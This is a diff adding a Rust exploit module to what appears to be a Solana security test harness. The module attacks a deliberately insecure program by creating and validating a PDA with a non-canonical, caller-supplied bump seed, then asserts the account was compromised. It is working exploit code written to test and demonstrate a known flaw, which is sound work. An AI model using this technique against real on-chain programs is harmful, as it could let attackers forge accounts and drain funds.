@@ -0,0 +1,89 @@
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    signer::Signer,
+    system_program,
+};
+
+use crate::{Env, Error, Exploit, Location, Program, Result, Severity, BUMP_SEED_CANONICALIZATION};
+
+const PDA_SEED: &[u8] = b"pda";
+
+/// The attack from `bump_seed_canonicalization.md`: since the bump comes from
+/// the caller, a second, non-canonical PDA for the same seeds can be created and
+/// then passes `valiadate_pda_usage` just like the canonical one.
+#[derive(Default)]
+pub struct NonCanonicalBump {
+    pda: Pubkey,
+    bump: u8,
+}
+
+impl Exploit for NonCanonicalBump {
+    fn name(&self) -> &'static str {
+        "bump-seed-canonicalization"
+    }
+
+    fn program(&self) -> Program {
+        BUMP_SEED_CANONICALIZATION
+    }
+
+    fn summary(&self) -> &'static str {
+        "create and validate a second PDA with a non-canonical bump"
+    }
+
+    fn severity(&self) -> Severity {
+        Severity::High
+    }
+
+    fn location(&self) -> Location {
+        Location {
+            instruction: "bump_seed_canonicalization::create_pda_account",
+            file: "programs/bump_seed_canonicalization/src/insecure.rs",
+            symbol: "create_pda_account",
+        }
+    }
+
+    fn setup(&mut self, env: &mut Env) -> Result<()> {
+        let payer = env.payer.pubkey();
+        let program_id = BUMP_SEED_CANONICALIZATION.id;
+        let (_, canonical_bump) =
+            Pubkey::find_program_address(&[PDA_SEED, payer.as_ref()], &program_id);
+        (self.pda, self.bump) = (0..canonical_bump)
+            .rev()
+            .find_map(|bump| {
+                Pubkey::create_program_address(&[PDA_SEED, payer.as_ref(), &[bump]], &program_id)
+                    .ok()
+                    .map(|pda| (pda, bump))
+            })
+            .expect("a non-canonical bump");
+        Ok(())
+    }
+
+    fn attack(&mut self, env: &mut Env) -> Result<()> {
+        let program_id = BUMP_SEED_CANONICALIZATION.id;
+        let accounts = vec![
+            AccountMeta::new(env.payer.pubkey(), true),
+            AccountMeta::new(self.pda, false),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ];
+        let create = Instruction::new_with_bytes(program_id, &[0, self.bump], accounts.clone());
+        let validate = Instruction::new_with_bytes(program_id, &[1, self.bump], accounts);
+        env.send(&[create, validate], &[])?;
+        Ok(())
+    }
+
+    fn assert_compromised(&self, env: &Env) -> Result<()> {
+        match env.account(&self.pda) {
+            Some(pda) if pda.owner == BUMP_SEED_CANONICALIZATION.id => Ok(()),
+            _ => Err(Error::NotCompromised(format!(
+                "no account at the bump {} PDA",
+                self.bump
+            ))),
+        }
+    }
+
+    fn expected_error(&self) -> Option<ProgramError> {
+        Some(ProgramError::InvalidArgument)
+    }
+}